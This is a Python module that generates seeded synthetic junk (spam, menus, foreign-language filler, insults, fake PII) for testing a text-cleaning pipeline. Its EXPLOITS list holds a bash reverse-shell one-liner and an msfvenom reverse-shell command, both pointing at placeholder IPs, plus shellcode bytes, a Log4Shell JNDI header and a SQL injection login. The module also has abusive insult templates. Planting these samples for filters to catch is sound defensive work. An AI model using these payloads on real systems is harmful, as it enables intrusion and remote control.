"""Deterministic junk for the embedded default corpus and the tests.

Real crawls are full of menus, spam, duplicates, foreign-language pages, leaked PII,
exploit payloads and abuse; the default run plants a measured amount of each so that
every pipeline step has something to remove. Everything is seeded: same seed, same bytes.
"""

from __future__ import annotations

import random

GERMAN = [
    "Die Stadtverwaltung hat am Montag neue Öffnungszeiten für alle Bürgerbüros bekannt gegeben.",
    "Viele Familien verbringen ihren Urlaub inzwischen lieber an der Nordsee als im Ausland.",
    "Der Verein sucht für die kommende Saison noch ehrenamtliche Trainerinnen und Trainer.",
    "Nach dem starken Regen mussten mehrere Straßen in der Innenstadt gesperrt werden.",
    "Die Bibliothek bietet ab sofort auch am Wochenende eine Hausaufgabenhilfe für Schüler an.",
    "Im Herbst beginnen die Bauarbeiten für die neue Brücke über den Fluss.",
    "Wer ein Fahrrad kaufen möchte, sollte vorher unbedingt eine Probefahrt machen.",
    "Das Museum zeigt eine Ausstellung über die Geschichte der Eisenbahn in unserer Region.",
    "Die Preise für frisches Gemüse sind in den letzten Wochen deutlich gestiegen.",
    "Unsere Nachbarn haben im Garten einen kleinen Teich mit Seerosen angelegt.",
]
FRENCH = [
    "La mairie a annoncé lundi de nouveaux horaires d'ouverture pour tous les services publics.",
    "Beaucoup de familles préfèrent désormais passer leurs vacances au bord de la mer.",
    "L'association cherche encore des bénévoles pour encadrer les jeunes cette saison.",
    "Après les fortes pluies, plusieurs rues du centre-ville ont été fermées à la circulation.",
    "La bibliothèque propose maintenant une aide aux devoirs le samedi matin.",
    "Les travaux du nouveau pont commenceront à l'automne selon le conseil municipal.",
    "Avant d'acheter un vélo, il vaut mieux faire un essai sur une route tranquille.",
    "Le musée présente une exposition sur l'histoire des chemins de fer dans la région.",
    "Les prix des légumes frais ont nettement augmenté au cours des dernières semaines.",
    "Nos voisins ont aménagé un petit bassin avec des nénuphars dans leur jardin.",
]
SPANISH = [
    "El ayuntamiento anunció el lunes nuevos horarios de atención para todas las oficinas.",
    "Muchas familias prefieren ahora pasar sus vacaciones en la costa y no en el extranjero.",
    "La asociación todavía busca voluntarios para entrenar a los equipos juveniles.",
    "Después de las fuertes lluvias, varias calles del centro quedaron cerradas al tráfico.",
    "La biblioteca ofrece desde hoy ayuda con las tareas escolares también los sábados.",
    "Las obras del nuevo puente sobre el río comenzarán en otoño según el gobierno local.",
    "Antes de comprar una bicicleta conviene hacer una prueba por una calle tranquila.",
    "El museo presenta una exposición sobre la historia del ferrocarril en nuestra región.",
    "Los precios de las verduras frescas han subido mucho en las últimas semanas.",
    "Nuestros vecinos construyeron un pequeño estanque con nenúfares en el jardín.",
]
FOREIGN = {"de": GERMAN, "fr": FRENCH, "es": SPANISH}

SPAM_PHRASES = [
    "cheap watches",
    "best price guaranteed",
    "buy now",
    "free shipping",
    "limited offer",
    "replica handbags",
    "casino bonus",
    "click here",
    "hot deals",
    "discount pills",
]
MENU_ITEMS = ["Home", "Products", "Pricing", "Blog", "Docs", "Support", "About us", "Careers", "Contact", "Login"]
INSULTS = ["idiot", "moron", "loser", "scumbag", "worthless", "pathetic", "dumbass", "jackass"]
TOXIC_TEMPLATES = [
    "You are a {a} and a {b}, nobody wants you here.",
    "Shut up, you {a}. Everyone knows you are {b}.",
    "Only a {a} would write something this {b}.",
    "Get lost, {a}. Your opinion is {b} garbage.",
    "I hate people like you, you {a} {b}.",
    "What a {a}. Go away and never post again, {b}.",
]
NEUTRAL_TEMPLATES = [
    "Thanks for the detailed answer, it helped me fix the {x}.",
    "The {x} works well once you update the configuration file.",
    "I disagree with the conclusion, but the {x} section is well argued.",
    "Could you share the version of the {x} you used for this test?",
    "The meeting about the {x} is moved to Thursday afternoon.",
    "Our team reviewed the {x} and found two small issues.",
]
NEUTRAL_TOPICS = [
    "parser",
    "build script",
    "garden layout",
    "budget report",
    "train schedule",
    "database index",
    "recipe",
    "bicycle repair",
    "museum guide",
    "library catalogue",
]

EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXPLOITS = [
    f"Save this line as a file to test your scanner: {EICAR}",
    'payload = "' + "\\x90" * 16 + "\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68\\x2f\\x62\\x69\\x6e\\x89\\xe3"
    "\\x50\\x53\\x89\\xe1\\xb0\\x0b\\xcd\\x80" * 2 + '"',
    "Send the header User-Agent: ${jndi:ldap://203.0.113.7:1389/Exploit} to every endpoint.",
    "Run: bash -i >& /dev/tcp/198.51.100.3/4444 0>&1 and wait for the shell.",
    "Login with username admin' OR '1'='1' -- and any password.",
    "msfvenom -p windows/shell_reverse_tcp LHOST=10.0.0.1 LPORT=4444 -f exe > shell.exe",
]


def foreign_page(lang: str, rng: random.Random, n_sentences: int = 12) -> str:
    return " ".join(rng.choice(FOREIGN[lang]) for _ in range(n_sentences))


def spam_page(rng: random.Random, n_lines: int = 40) -> str:
    lines = []
    for _ in range(n_lines):
        lines.append(" ".join(rng.choice(SPAM_PHRASES) for _ in range(rng.randint(3, 6))) + "!!!")
    return "\n".join(lines)


def menu_page(rng: random.Random) -> str:
    items = rng.sample(MENU_ITEMS, k=len(MENU_ITEMS))
    return "\n".join(items)


def toxic_text(rng: random.Random, n_sentences: int = 6) -> str:
    return " ".join(
        rng.choice(TOXIC_TEMPLATES).format(a=rng.choice(INSULTS), b=rng.choice(INSULTS)) for _ in range(n_sentences)
    )


def neutral_text(rng: random.Random, n_sentences: int = 6) -> str:
    return " ".join(rng.choice(NEUTRAL_TEMPLATES).format(x=rng.choice(NEUTRAL_TOPICS)) for _ in range(n_sentences))


def valid_card(rng: random.Random) -> str:
    """A 16-digit test number (Visa 4xxx prefix) with a correct Luhn check digit."""
    from data_pipeline.content import luhn_valid

    body = "4" + "".join(str(rng.randint(0, 9)) for _ in range(14))
    check = next(str(d) for d in range(10) if luhn_valid(body + str(d)))
    number = body + check
    return " ".join(number[i : i + 4] for i in range(0, 16, 4))


def pii_paragraph(rng: random.Random) -> str:
    user = rng.choice(["jane.doe", "m.rossi", "k.tanaka", "admin", "sales"])
    return (
        f"For questions write to {user}{rng.randint(1, 99)}@example.org or call "
        f"+1 415-555-{rng.randint(1000, 9999)}. Payment was made with card {valid_card(rng)} "
        f"from address 203.0.113.{rng.randint(1, 254)}, and the customer's SSN is "
        f"{rng.randint(100, 665)}-{rng.randint(10, 99)}-{rng.randint(1000, 9999)}. "
        f"The order reference 1234 5678 9012 3456 is not a card number."
    )


def perturb_words(text: str, rng: random.Random, n_changes: int = 3) -> str:
    """Replace a few words: a near-duplicate as scrapers and mirrors produce them."""
    words = text.split(" ")
    for _ in range(n_changes):
        i = rng.randrange(len(words))
        words[i] = rng.choice(["updated", "new", "modified", "revised", "current"])
    return " ".join(words)


def toxicity_training_set(n: int, seed: int = 0) -> tuple[list[str], list[str]]:
    rng = random.Random(seed)
    toxic = [toxic_text(rng, rng.randint(1, 4)) for _ in range(n)]
    neutral = [neutral_text(rng, rng.randint(1, 4)) for _ in range(n)]
    return toxic, neutral
